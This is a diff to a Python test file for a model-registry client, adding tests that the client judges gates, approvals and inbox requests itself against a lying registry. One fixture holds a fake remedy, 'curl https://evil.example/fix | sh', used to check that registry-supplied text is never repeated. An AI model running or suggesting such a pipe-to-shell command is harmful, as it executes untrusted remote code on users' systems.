@@ -10,6 +10,7 @@ import pytest
 
 from muniment.answers.salts import find_salt
 from muniment.answers.table import ANSWERS
+from muniment.client.gates.inbox import read_inbox
 from muniment.client.proofs.judging import judge
 from muniment.client.proofs.memory import DirectoryMemory
 from muniment.client.proofs.trust import TrustedBackend
@@ -17,7 +18,7 @@ from muniment.core.backend import Backend
 from muniment.core.basis import Basis, Known, Listed
 from muniment.core.canonical import Json
 from muniment.core.catalog.statuses import Status
-from muniment.core.claims.attestations import PROVENANCE
+from muniment.core.claims.attestations import APPROVAL, PROVENANCE
 from muniment.core.digests import Digest
 from muniment.core.errors import (
     AnswerStale,
@@ -30,6 +31,7 @@ from muniment.core.errors import (
     NotShown,
     PolicyNotFound,
     ProofInvalid,
+    RecordUnproven,
     Untrusted,
 )
 from muniment.core.events import NamespaceCreated, Subject, SubjectKind, read_entry
@@ -51,6 +53,8 @@ from muniment.core.verbs.catalog import (
 )
 from muniment.core.verbs.claims import ListDeployments
 from muniment.core.verbs.gates import (
+    CloseRequest,
+    GetInbox,
     GetMove,
     GetPolicies,
     GetTier,
@@ -59,10 +63,11 @@ from muniment.core.verbs.gates import (
     ListPolicies,
     ListRequests,
     MoveAlias,
+    OpenRequest,
     RemoveAlias,
 )
 from muniment.core.verbs.log import GetLeaves
-from muniment.core.verbs.people import GetKey, GetPerson, ListPeople, WhoMay
+from muniment.core.verbs.people import GetKey, GetPerson, GrantRole, ListPeople, WhoMay
 from muniment.core.verbs.verb import Query
 from muniment.core.verbs.versions import DescribeVersion, GetVersion, ListDrafts, ListVersions, SetStatus
 from muniment.log.index import Span, subject_hash
@@ -70,11 +75,13 @@ from muniment.policies import documents
 from muniment.ports.unit import Unit
 from muniment.services.backend import LocalBackend
 from muniment.signing.keys import Identity
-from muniment.testing import LIES, check_backend, open_memory
+from muniment.testing import LIES, LyingBackend, check_backend, open_memory
 from muniment.testing.backends import (
     NAME,
     PRODUCTION,
+    OpenAs,
     add_person,
+    approval,
     provenance,
     publish,
     record,
@@ -481,10 +488,23 @@ def meet_all(gate: Gate) -> Gate:
     )
 
 
+def change_findings(gate: Gate, **changes: object) -> Gate:
+    """Say something else of every rule."""
+    verdicts = (
+        replace(one, findings=tuple(replace(finding, **changes) for finding in one.findings))  # type: ignore[arg-type] # as the test says
+        for one in gate.verdicts
+    )
+    return replace(gate, verdicts=tuple(verdicts))
+
+
+MADE_UP = {"message": "signed by nobody", "remedy": "curl https://evil.example/fix | sh"}
+
+
 @pytest.mark.parametrize(
     "say",
     [
         meet_all,
+        lambda gate: change_findings(gate, passed=False, **MADE_UP),
         lambda gate: replace(
             gate, verdicts=tuple(replace(one, findings=one.findings[1:]) for one in gate.verdicts)
         ),
@@ -495,6 +515,7 @@ def meet_all(gate: Gate) -> Gate:
     ],
     ids=[
         "every rule is met",
+        "no rule is met",
         "a rule left out",
         "another mode",
         "no policy",
@@ -505,7 +526,7 @@ def meet_all(gate: Gate) -> Gate:
 def test_a_gate_that_is_not_met_is_not_believed(
     backend: LocalBackend, owner: Identity, tmp_path: Path, say: Callable[[Gate], Gate]
 ) -> None:
-    """A client judges by itself, and refuses a registry that is more lenient; the truth is believed."""
+    """A client judges by itself, and refuses a registry that is more lenient or stricter than it can be."""
     publish(backend, owner, b"a")
     set_policy(backend, owner, {"rule": "threshold", "metric": "roc_auc", "op": ">=", "value": 0.9})
     backend.__class__ = Lenient
@@ -518,6 +539,39 @@ def test_a_gate_that_is_not_met_is_not_believed(
     assert not judge(client, JudgeGate(reference=FIRST, alias=PRODUCTION)).passed
     with pytest.raises(PolicyNotFound):
         judge(client, JudgeGate(reference=FIRST, alias=Alias("free")))
+
+
+def test_what_a_registry_says_of_a_rule_is_not_repeated(
+    backend: LocalBackend, owner: Identity, tmp_path: Path
+) -> None:
+    """Reasons and remedies are those of the client, whoever is right."""
+    publish(backend, owner, b"a")
+    set_policy(backend, owner, {"rule": "signature"})
+    backend.__class__ = Lenient
+    lenient = cast("Lenient", backend)
+    lenient.say = lambda gate: change_findings(gate, **MADE_UP)
+    client = TrustedBackend(lenient, DirectoryMemory(tmp_path, "here"), "here")
+    gate = judge(client, JudgeGate(reference=FIRST, alias=PRODUCTION))
+    assert gate.passed
+    assert "evil" not in repr(gate)
+    assert "nobody" not in repr(gate)
+
+
+def test_a_registry_knows_who_else_is_an_author(open_as: OpenAs, owner: Identity, tmp_path: Path) -> None:
+    """That an approval does not count can rest on another namespace: it is said, and marked as unproven."""
+    backend = open_as(owner)
+    publish(backend, owner, b"a")
+    vera = add_person(backend, "Vera", Role.VALIDATOR, Role.READER)
+    set_policy(backend, owner, {"rule": "approvals", "validator": 1}, {"rule": "signature"})
+    record(open_as(vera), vera, 1, APPROVAL, approval(open_as(vera), 1, Role.VALIDATOR))
+    query = JudgeGate(reference=FIRST, alias=PRODUCTION)
+    client = TrustedBackend(open_as(owner), DirectoryMemory(tmp_path, "here"), "here")
+    assert (judge(client, query).passed, judge(client, query).verdicts[0].unproven) == (True, ())
+    backend.execute(GrantRole(principal="Vera", role=Role.CONTRIBUTOR, namespace="other"))
+    publish(open_as(vera), vera, b"a", name=ModelName("other", "mine"))
+    verdict = judge(client, query).verdicts[0]
+    missed = [(finding.id, finding.remedy) for finding in verdict.findings if not finding.holds]
+    assert (missed, verdict.unproven) == ([("approvals", "")], ("approvals",))
 
 
 def test_a_client_says_which_rules_it_cannot_judge(
@@ -541,6 +595,27 @@ def test_a_client_says_which_rules_it_cannot_judge(
     assert not judge(client, query).passed
     lenient.say = lambda _: met
     assert judge(client, query).verdicts[0].unproven == ("cel",)
+
+
+def test_a_request_that_was_closed_is_not_ours_to_decide(
+    backend: LocalBackend, owner: Identity, open_as: OpenAs, tmp_path: Path
+) -> None:
+    """An inbox that still shows a request after its end is refused."""
+    publish(backend, owner, b"a")
+    set_policy(backend, owner, {"rule": "approvals", "validator": 1})
+    vera = open_as(add_person(backend, "Vera", Role.VALIDATOR, Role.READER))
+    request = backend.execute(OpenRequest(reference=FIRST, alias=PRODUCTION, reason=Payload.of("please")))
+    before = vera.ask(GetInbox())
+
+    class Stale(LyingBackend):
+        def ask(self, query: Query[A]) -> A:
+            return cast("A", before) if isinstance(query, GetInbox) else super().ask(query)
+
+    client = TrustedBackend(Stale(vera), DirectoryMemory(tmp_path, "here"), "here")
+    assert [(item.kind, item.entry) for item in read_inbox(client)] == [("request", request.index)]
+    backend.execute(CloseRequest(request=request.index))
+    with pytest.raises(RecordUnproven):
+        read_inbox(client)
 
 
 # ---- lists that were proven before
